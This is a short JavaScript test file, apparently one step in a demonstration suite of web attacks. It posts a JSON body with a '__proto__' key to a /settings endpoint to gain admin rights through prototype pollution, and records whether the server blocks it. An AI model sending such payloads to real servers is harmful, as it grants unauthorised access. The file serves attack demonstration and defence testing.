import { attack } from '#attack';

const title = 'Become an admin with a key called __proto__';

export default attack('prototype', { step: 4, title }, async ({ target, say }) => {
  const attacker = target.client('Attacker');
  (await attacker.post('/settings', '{"theme":"dark","isAdmin":true}')).expect(200);
  say('  The server ignores the field isAdmin.');
  const { body } = await attacker.post('/settings', '{"theme":"dark","__proto__":{"isAdmin":true}}');
  say(`  ${JSON.stringify(body)}`);
  return body?.isAdmin === true ? 'succeeded' : 'blocked';
});
